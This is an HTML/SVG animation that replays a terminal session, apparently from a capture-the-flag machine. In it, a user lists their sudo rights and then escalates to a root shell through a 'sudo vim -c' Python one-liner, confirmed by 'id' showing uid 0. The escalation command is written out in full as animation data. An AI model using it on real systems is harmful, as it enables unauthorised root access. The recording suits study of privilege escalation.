
Animation of 1053x532 px, one loop 8 s. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #0c0c0c; }
  svg { display: block; width: 100vw; height: 100vh; }
  text { white-space: pre; text-rendering: geometricPrecision; }
  #rows { font: 12.833px "Noto Sans Mono", monospace; fill: #ccc; stroke: #ccc; stroke-width: 0.25; }
  #tabs { font: 9.600px "Open Sans", "Noto Sans", sans-serif; fill: #f0f0f0; }
  #icons { fill: none; stroke: #e6e6e6; }
</style>
</head>
<body>
<svg viewBox="0 0 1053 532">
  <defs>
    <clipPath id="clipA"><rect x="222" width="132" height="18"/></clipPath>
    <clipPath id="clipB"><rect x="415" width="131" height="18"/></clipPath>
    <path id="cross" d="M-4-4L4 4M4-4L-4 4"/>
  </defs>
  <rect width="1053" height="18" fill="#2f2f2f"/>
  <path d="M191 18Q194.500 18 194.500 14V0H387V14Q387 18 390.500 18Z" fill="#0c0c0c"/>
  <rect y="530" width="1053" height="1" fill="#333"/>
  <rect y="531" width="1053" height="1" fill="#707070"/>

  <g id="tabs">
    <rect x="9.500" y="1" width="11" height="11" fill="#3f6fc9"/>
    <rect x="202.500" y="0.500" width="11" height="11" fill="#3f6fc9"/>
    <circle cx="400" cy="7" r="5" fill="#e6e2d6"/>
    <text x="30" y="10.300">Lantern TaskPrompt</text>
    <g clip-path="url(#clipA)"><text x="222" y="9.800" font-weight="600" fill="#fff">ljf@LJF: ~/Desktop/Temp/thumbs</text></g>
    <g clip-path="url(#clipB)"><text x="415" y="10.300">ljf@LJF: ~/Desktop/Temp/thumbs</text></g>
  </g>

  <g id="icons">
    <use href="#cross" x="178" y="6.500"/>
    <use href="#cross" x="370" y="6"/>
    <use href="#cross" x="562" y="6.500"/>
    <use href="#cross" x="1043.500" y="2.500"/>
    <path d="M591.500 6h8.500m-4.250-4.250v8.500"/>
    <path d="M616.500 4.500l3.250 3.250 3.250-3.250"/>
    <path d="M579.500 0v12M609.500 0v18" stroke="#454545"/>
    <path d="M965 2.500h8.500"/>
    <path d="M1002.500-1.500h8v7.500h-8z"/>
  </g>

  <g id="rows"></g>
  <rect id="caret" width="1" height="16" fill="#fff"/>
  <circle id="click" cx="743" cy="359.500" r="10" fill="#858504"/>
  <path id="pointer" d="M0 0V10.500L2.500 8.300 4.200 12 6 11.200 4.400 7.600H7.600Z"
    fill="#fff" stroke="#000" stroke-width="0.500"/>
</svg>

<script>
const LOOP = 8000, CELL = 7.7, ROW = 15.4;
const BLINK = 920, BLINK_ON = 400;
const $ = id => document.getElementById(id);

const prompt = "t0vlu@TovluHut-Mild:~$ ";
const command = `sudo /usr/bin/vim -c ':py3 import os; os.execl("/bin/sh", "sh", "-pc", "reset; exec sh -p")'`;
const reply = "^[[2;2R";
const failed = [reply + "# id", "sh: 1: ot found", "sh: 1: 2Rid: not found"];
const history = [
  ...failed,
  "# id",
  "uid=0(root) gid=0(root) grupos=0(root)",
  "# exit",
  prompt + "sudo -l",
  "Coincidiendo entradas por defecto para t0vlu en TovluHut-Mild:",
  "    env_reset, mail_badpass, secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin\\:/snap/bin",
  "",
  "El usuario t0vlu puede ejecutar los siguientes comandos en TovluHut-Mild:",
  "    (root) /usr/bin/vim",
  "    (root) /bin/chmod",
  "    (root) /usr/bin/ftp"
];

// The caret stands after the last line unless the screen is not taking input.
const screens = [
  { time: 0, lines: [...history, prompt], busy: true },
  { time: 670, lines: [...history, prompt] },
  { time: 2190, lines: [...history, prompt + "sudo -l"] },
  { time: 3130, lines: [...history, prompt + command] },
  { time: 4260, lines: Array(16).fill("") },
  { time: 4330, lines: [" ".repeat(8)] },
  { time: 4520, lines: [""] },
  { time: 4920, lines: [reply], busy: true },
  { time: 5300, lines: [reply + "# "] },
  { time: 6600, lines: [reply + "# i"] },
  { time: 6730, lines: [reply + "# id"] },
  { time: 7060, lines: [...failed, "# "] }
];

const rows = Array.from({ length: 16 }, (_, i) => {
  const el = document.createElementNS("http://www.w3.org/2000/svg", "text");
  el.setAttribute("x", 0.9);
  el.setAttribute("y", 37.4 + i * ROW);
  return $("rows").appendChild(el);
});

const show = (el, on) => el.setAttribute("visibility", on ? "visible" : "hidden");
const place = (el, x, y) => el.setAttribute("transform", `translate(${x} ${y})`);

// Progress from 0 to 1 in three jumps, slowing down towards the end.
function jumps(t, from, to) {
  const p = Math.min(1, Math.max(0, (t - from) / (to - from)));
  const k = Math.floor(p * 3 + 1e-6) / 3;
  return k * (1.5 - k / 2);
}

let shown;
function draw(t) {
  const screen = screens.findLast(s => s.time <= t);
  const { lines, time, busy } = screen;
  if (screen !== shown) {
    rows.forEach((el, i) => { el.textContent = lines[i] || ""; });
    shown = screen;
  }

  const row = lines.length - 1;
  place($("caret"), Math.round(0.92 + lines[row].length * CELL), Math.floor(25.2 + row * ROW));
  show($("caret"), !busy && (t - time) % BLINK < BLINK_ON);

  const enter = jumps(t, 120, 330), leave = jumps(t, 820, 1120);
  place($("pointer"), 968.5 - 225 * enter - 37.5 * leave, 513 - 153 * enter + 7 * leave);
  show($("pointer"), t >= 120 && t < 4000);
  show($("click"), t >= 590 && t < 720);
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
